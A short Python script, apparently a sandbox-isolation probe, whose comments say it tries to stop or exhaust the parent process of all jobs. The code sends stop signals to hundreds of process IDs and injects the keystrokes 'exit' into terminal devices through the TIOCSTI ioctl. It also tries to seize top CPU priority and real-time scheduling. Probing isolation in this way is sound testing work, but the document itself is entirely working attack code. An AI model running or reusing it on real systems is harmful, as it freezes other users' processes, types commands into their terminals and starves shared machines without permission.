# tries: to stop or to exhaust the process that all jobs come from: by its number, its terminal, its socket, its memory.
# gets nothing if: the neighbours, who need it, run as ever.
# %%
import ctypes
import fcntl
import os
import signal

threads = set(map(int, os.listdir("/proc/self/task")))
for pid in set(range(-5, 400)) - threads - {-1, 0, os.getpid(), -os.getpgrp()}:
    for number in (signal.SIGSTOP, signal.SIGTSTP):
        try:
            os.kill(pid, number)
            print("GOT", pid)
        except OSError:
            pass
for name in ("/dev/tty", "/dev/console", "/dev/pts/0", "/dev/ptmx"):
    try:
        terminal = os.open(name, os.O_RDWR | os.O_NOCTTY)
        for letter in b"exit\n":
            fcntl.ioctl(terminal, 0x5412, bytes([letter]))
        print("GOT words typed on", name)
    except OSError:
        pass
libc = ctypes.CDLL(None, use_errno=True)
if libc.setpriority(0, 0, -20) == 0 or libc.sched_setscheduler(0, 1, ctypes.byref(ctypes.c_int(50))) == 0:
    print("GOT a higher priority")
